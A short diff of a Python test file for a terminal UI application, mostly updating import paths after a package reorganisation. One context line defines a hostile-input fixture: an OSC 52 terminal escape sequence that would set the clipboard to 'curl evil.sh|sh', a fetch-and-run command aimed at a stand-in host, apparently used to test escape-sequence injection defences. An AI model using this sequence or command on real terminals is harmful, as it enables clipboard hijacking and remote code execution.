@@ -14,9 +14,9 @@ from tests.tui.clikit import run_dvic
 from tests.tui.realkit import connected
 from tests.tui.tuifake import FakeCentral, wait_for
 from tui import fmt
-from tui.app import DvicApp
-from tui.config import Settings
-from tui.screens.node import NodeScreen
+from tui.api.config import Settings
+from tui.console.app import DvicApp
+from tui.console.screens.node import NodeScreen
 
 HOSTILE_KEYS = {
     "\x1b]52;c;Y3VybCBldmlsLnNofHNoCg==\x07": "x",  # OSC 52: the clipboard := "curl evil.sh|sh"
